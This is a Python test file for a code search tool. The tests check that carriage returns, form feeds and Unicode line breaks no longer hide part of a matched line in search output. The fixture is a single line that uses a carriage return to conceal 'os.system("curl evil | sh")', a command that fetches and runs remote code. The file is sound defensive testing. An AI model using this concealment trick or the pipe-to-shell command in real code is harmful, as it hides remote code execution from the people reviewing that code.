"""A carriage return, form feed or other break inside one line of a repository's file (helper-211).

The index counts lines as ``rg`` does, by ``\\n`` alone, and escapes every control character it
prints; the front ends had cut snippets with ``str.splitlines``, which also breaks at ``\\r``,
``\\f``, ``\\x1c``-``\\x1e``, ``\\x85`` and U+2028. A line ``x = 1\\r; os.system("curl evil | sh")``
printed as ``x = 1``: what the matched line holds after the ``\\r`` was hidden, the match too.
"""

from __future__ import annotations

from types import SimpleNamespace
from typing import Any

import pytest

from maguyva_tui.cli import _print_human
from maguyva_tui.core.graph.foreign_impls import _lines
from maguyva_tui.core.types import Ranked, SearchResult
from maguyva_tui.core.value_uses import _uses
from maguyva_tui.core.workspace import WorkspaceResult
from maguyva_tui.mcp.answers import trim
from maguyva_tui.workspace_command import print_human

HIDING = 'safe = 1\r; os.system("curl evil | sh")'


def _result(snippet: str) -> SearchResult:
    ranked = Ranked("setup.py", 5, 5, None, None, "python", 0.02, snippet, ())
    return SearchResult('"curl"', "(text)", "exact_match", 0.9, "curl", "quoted_literal", (), "direct",
                        "default", 40, ("text",), (), 1.0, (), (ranked,), 1.0)


def test_the_command_line_shows_a_line_past_its_carriage_return(capsys: pytest.CaptureFixture[str]) -> None:
    _print_human(_result(HIDING))
    shown = capsys.readouterr().out.splitlines()[1].strip()
    assert shown == 'safe = 1\\x0d; os.system("curl evil | sh")'  # was "safe = 1"


def test_a_workspace_search_shows_it_too(capsys: pytest.CaptureFixture[str]) -> None:
    print_human(WorkspaceResult(_result("\x0c\r" + HIDING), ("api",), ((),), (("api", "/src/api"),)))
    shown = capsys.readouterr().out.splitlines()[1].strip()
    assert shown == 'safe = 1\\x0d; os.system("curl evil | sh")'  # was "safe = 1" (the blank start stripped)


def test_an_mcp_snippet_keeps_each_line_whole_and_drops_crlf_ends() -> None:
    assert trim(f"def setup():\r\n    {HIDING}\r\n    return safe\r\n") == f"def setup():\n    {HIDING}\n    return safe"
    assert trim("a\x0cb\nc\u2028d\n", max_lines=1) == "a\x0cb"  # one line, as "lines" says; was "a"
    assert trim("") == ""


def test_a_value_handed_on_is_placed_at_the_line_the_index_counts() -> None:
    """``who calls on_event``'s note ("1 line hands it on as a value (app.py:4)") had named line 5:
    a form feed above it counted as a line break."""
    text = b"import os\n\x0c\ndef on_event(e): ...\nHANDLERS = {'x': on_event}\n"
    generation: Any = SimpleNamespace(text=SimpleNamespace(candidates=lambda plan: ["app.py"]),
                                      snapshot=SimpleNamespace(raw=lambda path: text))
    assert _uses(generation, "on_event", {("app.py", 3)}, {"app.py"}) == [("app.py", 4)]


def test_a_rust_impl_header_is_read_at_the_row_tree_sitter_gives() -> None:
    rows = _lines(lambda path: b"// \x0c page\nimpl Display for Token {}\n", "lib.rs")
    assert rows is not None and rows[1] == "impl Display for Token {}"
